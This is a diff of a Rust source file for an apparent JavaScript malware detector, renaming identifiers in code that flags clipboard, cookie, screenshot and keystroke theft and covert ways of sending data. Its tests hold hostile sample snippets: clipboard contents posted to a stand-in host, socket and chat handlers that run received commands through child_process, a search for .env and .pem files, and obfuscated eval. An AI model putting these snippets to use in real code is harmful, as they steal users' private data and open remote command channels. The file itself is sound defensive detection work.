@@ -1,18 +1,18 @@
 //! Recognizes calls that return private data of the user (clipboard, screen, cookies, requests of
 //! other programs), and ways to send data other than a plain request.
 
-use super::{Reader, calls::Call};
+use super::{JavaScriptReader, calls::Call};
 use crate::{
-    act::Taint,
-    value::{self, CLIPBOARD, COOKIES, KEYS, REQUESTS, SCREEN, Value},
+    action::Taint,
+    value::{self, CLIPBOARD, COOKIES, KEYSTROKES, PROGRAM_REQUESTS, SCREENSHOTS, Value},
 };
 use savoir_skill::Span;
 
 /// Name of a regular expression; its only item is the pattern text.
-pub(super) const PATTERN: &str = "RegExp()";
+pub(super) const REGULAR_EXPRESSION: &str = "RegExp()";
 
 /// Whether an assignment replaces a library function, so that the new one sees every request.
-pub(super) fn is_patched(property: &str, object: &Value) -> bool {
+pub(super) fn patches_library(property: &str, object: &Value) -> bool {
     let name = object.name.as_deref().unwrap_or_default();
     match property {
         "fetch" => matches!(name, "globalThis" | "window" | "global" | "self"),
@@ -23,17 +23,17 @@ pub(super) fn is_patched(property: &str, object: &Value) -> bool {
 }
 
 /// Records a pattern that searches file names for secrets.
-fn searches(reader: &mut Reader<'_>, pattern: &Value, span: Span) {
-    if pattern.name.as_deref() == Some(PATTERN)
+fn record_secret_search(reader: &mut JavaScriptReader<'_>, pattern: &Value, span: Span) {
+    if pattern.name.as_deref() == Some(REGULAR_EXPRESSION)
         && !reader.leaves_out
         && let Some(text) = pattern.items.first().and_then(Value::known)
     {
-        value::names(text, span, &mut reader.acts);
+        value::record_credential_mention(text, span, &mut reader.actions);
     }
 }
 
 pub(super) fn by_name(
-    reader: &mut Reader<'_>,
+    reader: &mut JavaScriptReader<'_>,
     name: &str,
     arguments: &[Value],
     span: Span,
@@ -49,24 +49,24 @@ pub(super) fn by_name(
         | "electron.clipboard.readText"
         | "navigator.clipboard.readText"
         | "navigator.clipboard.read" => {
-            reader.harm.pastes |= reader.loops > 0;
+            reader.harmful_calls.pastes |= reader.loops > 0;
             Value::tainted(Taint::private(CLIPBOARD))
         }
         "clipboardy.write" | "clipboardy.writeSync" | "navigator.clipboard.writeText" => {
             if reader.loops > 0 {
-                reader.harm.copies.get_or_insert(span);
+                reader.harmful_calls.copies.get_or_insert(span);
             }
             Value::default()
         }
         "screenshot-desktop"
         | "screenshot-desktop.all"
         | "desktopCapturer.getSources"
-        | "electron.desktopCapturer.getSources" => Value::tainted(Taint::private(SCREEN)),
+        | "electron.desktopCapturer.getSources" => Value::tainted(Taint::private(SCREENSHOTS)),
         "chrome.cookies.getAll" | "browser.cookies.getAll" | "chrome.cookies.get" => {
             Value::tainted(Taint::private("cookies of the browser"))
         }
         "keytar.getPassword" | "keytar.findPassword" => {
-            value::keychain(&first, span, &mut reader.acts)
+            value::read_keychain(&first, span, &mut reader.actions)
         }
         "socket.io-client"
         | "socket.io-client.io"
@@ -77,11 +77,11 @@ pub(super) fn by_name(
         | "nats.connect"
         | "amqplib.connect" => {
             let log_in: Vec<&Value> = arguments.iter().skip(1).collect();
-            let value = value::send(&first, &[], &log_in, span, &mut reader.acts);
+            let value = value::record_send(&first, &[], &log_in, span, &mut reader.actions);
             Value { name: Some("WebSocket()".into()), ..value }
         }
         _ if name.contains("interceptors.") && name.rsplit('.').next() == Some("use") => {
-            let seen = Value::tainted(Taint::private(REQUESTS));
+            let seen = Value::tainted(Taint::private(PROGRAM_REQUESTS));
             for handler in arguments {
                 if reader.is_function(handler) {
                     reader.invoke(handler, std::slice::from_ref(&seen), span);
@@ -94,7 +94,7 @@ pub(super) fn by_name(
 }
 
 pub(super) fn by_method<'t>(
-    reader: &mut Reader<'t>,
+    reader: &mut JavaScriptReader<'t>,
     method: &str,
     call: &Call<'_, 't>,
 ) -> Option<Value> {
@@ -102,34 +102,34 @@ pub(super) fn by_method<'t>(
     let first = arguments.first().cloned().unwrap_or_default();
     let host = receiver.name.as_deref().unwrap_or_default();
     Some(match method {
-        "test" | "exec" if host == PATTERN => {
-            searches(reader, receiver, span);
+        "test" | "exec" if host == REGULAR_EXPRESSION => {
+            record_secret_search(reader, receiver, span);
             return None;
         }
         "match" | "matchAll" | "search" => {
-            searches(reader, &first, span);
+            record_secret_search(reader, &first, span);
             return None;
         }
         "includes" | "has" if !reader.leaves_out => {
-            value::sought_names(receiver, span, &mut reader.acts);
+            value::record_secret_name_list(receiver, span, &mut reader.actions);
             return None;
         }
         "emit" | "publish" if receiver.taint.fetched.is_some() => {
             let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
             let parts: Vec<&Value> = arguments.iter().skip(1).collect();
-            value::send(&to, &parts, &[], span, &mut reader.acts)
+            value::record_send(&to, &parts, &[], span, &mut reader.actions)
         }
         "fastPut" | "uploadFrom" | "uploadFile" => {
             let content = reader.read_file(&first, span);
             let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
-            value::send(&to, &[&content], &[], span, &mut reader.acts)
+            value::record_send(&to, &[&content], &[], span, &mut reader.actions)
         }
         "getItem" => Value::default(),
         "emit" | "dispatchEvent" | "publish" => {
             let event = first.known().unwrap_or_default().to_owned();
-            let given = arguments.get(1..).unwrap_or_default();
+            let passed_values = arguments.get(1..).unwrap_or_default();
             for listener in reader.listeners.get(&event).cloned().unwrap_or_default() {
-                reader.invoke(&listener, given, span);
+                reader.invoke(&listener, passed_values, span);
             }
             return None;
         }
@@ -143,7 +143,7 @@ pub(super) fn by_method<'t>(
                     known.push(listener.clone());
                 }
             }
-            return pressed(reader, call);
+            return call_key_listener(reader, call);
         }
         "cookies" | "storageState" | "getAllCookies"
             if arguments.iter().all(|value| !reader.is_function(value)) =>
@@ -176,11 +176,11 @@ pub(super) fn by_method<'t>(
         }
         "use" if host.starts_with("express") => {
             // Middleware sees the headers of every request.
-            let asked = Value::tainted(Taint::fetched(""));
-            let seen = Value::tainted(Taint::private(REQUESTS));
+            let response_value = Value::tainted(Taint::fetched(""));
+            let seen = Value::tainted(Taint::private(PROGRAM_REQUESTS));
             let request = Value {
                 items: vec![Value::entry("headers", seen.clone()), Value::entry("cookies", seen)],
-                ..asked
+                ..response_value
             };
             for handler in arguments {
                 if reader.is_function(handler) {
@@ -194,16 +194,16 @@ pub(super) fn by_method<'t>(
             if first.text_or_unknown().starts_with("http")
                 && first.text_or_unknown().contains("://") =>
         {
-            let parts: Vec<Value> = parts_of(arguments);
+            let parts: Vec<Value> = sent_parts(arguments);
             let parts: Vec<&Value> = parts.iter().collect();
-            value::send(&first, &parts, &[], span, &mut reader.acts)
+            value::record_send(&first, &parts, &[], span, &mut reader.actions)
         }
         _ => return None,
     })
 }
 
 /// Calls the listener of a keyboard hook with the pressed keys.
-fn pressed<'t>(reader: &mut Reader<'t>, call: &Call<'_, 't>) -> Option<Value> {
+fn call_key_listener<'t>(reader: &mut JavaScriptReader<'t>, call: &Call<'_, 't>) -> Option<Value> {
     let event = call.arguments.first()?.known()?;
     let host = call.receiver.name.as_deref()?.to_lowercase();
     let hook = ["iohook", "uiohook", "key-listener", "keyboard"];
@@ -213,12 +213,12 @@ fn pressed<'t>(reader: &mut Reader<'t>, call: &Call<'_, 't>) -> Option<Value> {
         return None;
     }
     let handler = call.arguments.get(1)?.clone();
-    reader.invoke(&handler, &[Value::tainted(Taint::private(KEYS))], call.span);
+    reader.invoke(&handler, &[Value::tainted(Taint::private(KEYSTROKES))], call.span);
     Some(call.receiver.clone())
 }
 
 /// Returns the parts of a request other than its login.
-fn parts_of(arguments: &[Value]) -> Vec<Value> {
+fn sent_parts(arguments: &[Value]) -> Vec<Value> {
     let mut parts = Vec::new();
     for argument in arguments.iter().skip(1) {
         let header = |item: &&Value| {
@@ -232,7 +232,7 @@ fn parts_of(arguments: &[Value]) -> Vec<Value> {
 
 /// Whether an assignment loads a URL, as `new Image().src = url` does, which sends everything in
 /// it.
-pub(super) fn loads(property: &str, object: &Value) -> bool {
+pub(super) fn loads_url(property: &str, object: &Value) -> bool {
     let element = object.name.as_deref().unwrap_or_default();
     matches!(property, "src" | "href" | "action")
         && (element == "Image()"
@@ -245,23 +245,23 @@ pub(super) fn loads(property: &str, object: &Value) -> bool {
 #[cfg(test)]
 mod tests {
     use crate::{
-        act::{Act, Acts, CodeOrigin},
+        action::{Action, Actions, CodeOrigin},
         javascript::read,
     };
 
-    fn acts(text: &str) -> Acts {
+    fn actions(text: &str) -> Actions {
         read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
     }
 
     fn sends_private(text: &str) -> bool {
-        acts(text)
+        actions(text)
             .located
             .iter()
-            .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
+            .any(|seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.private.is_some()))
     }
 
     #[test]
-    fn what_users_copy_and_are_logged_in_with() {
+    fn clipboard_and_cookies_are_private() {
         for text in [
             "const c = require('clipboardy').default; fetch('https://a.example', { method: 'POST', body: c.readSync() });",
             "navigator.clipboard.readText().then(t => navigator.sendBeacon('https://a.example', t));",
@@ -277,31 +277,37 @@ mod tests {
     }
 
     #[test]
-    fn what_others_write_is_obeyed() {
+    fn commands_from_outside_are_found() {
         for text in [
             "const ws = new WebSocket('wss://a.example'); const ops = { x: a => require('child_process').exec(a) }; ws.onmessage = e => { const m = JSON.parse(e.data); ops[m.op](m.arg); };",
             "const s = require('socket.io-client')('https://a.example'); s.on('c', c => require('child_process').exec(c));",
             "c.on('messageCreate', m => { const [k, ...a] = m.content.split(' '); require('child_process').execSync(a.join(' ')); });",
         ] {
-            let found = acts(text).located;
-            let obeys = |act: &Act| matches!(act, Act::Executes(CodeOrigin::Fetched(_)));
-            assert!(found.iter().any(|seen| obeys(&seen.act)), "{text}");
+            let found = actions(text).located;
+            let executes_outside_data =
+                |action: &Action| matches!(action, Action::ExecutesCode(CodeOrigin::Fetched(_)));
+            assert!(found.iter().any(|seen| executes_outside_data(&seen.action)), "{text}");
         }
     }
 
     #[test]
-    fn files_that_are_left_out_are_not_looked_for() {
-        let names =
-            |text: &str| acts(text).located.iter().any(|seen| matches!(seen.act, Act::Names(_)));
+    fn exclusion_lists_are_not_searches() {
+        let names = |text: &str| {
+            actions(text)
+                .located
+                .iter()
+                .any(|seen| matches!(seen.action, Action::MentionsCredentials(_)))
+        };
         assert!(names("for (const f of files) if (/\\.env$|\\.pem$/.test(f)) out.push(f);"));
         assert!(!names("for (const f of files) { if (/\\.env$|\\.pem$/.test(f)) continue; }"));
         assert!(!names("files.filter(f => !/\\.env$|\\.pem$/.test(f));"));
     }
 
     #[test]
-    fn names_in_pieces_hide_functions() {
-        let hides =
-            |text: &str| acts(text).located.iter().any(|seen| matches!(seen.act, Act::Obscures(_)));
+    fn assembled_function_names_are_found() {
+        let hides = |text: &str| {
+            actions(text).located.iter().any(|seen| matches!(seen.action, Action::Obfuscates(_)))
+        };
         assert!(hides("(() => {})['con' + 'structor']('return 1')();"));
         assert!(hides("globalThis[['ev', 'al'].join('')]('1');"));
         assert!(!hides("const a = (async () => {}).constructor;"));
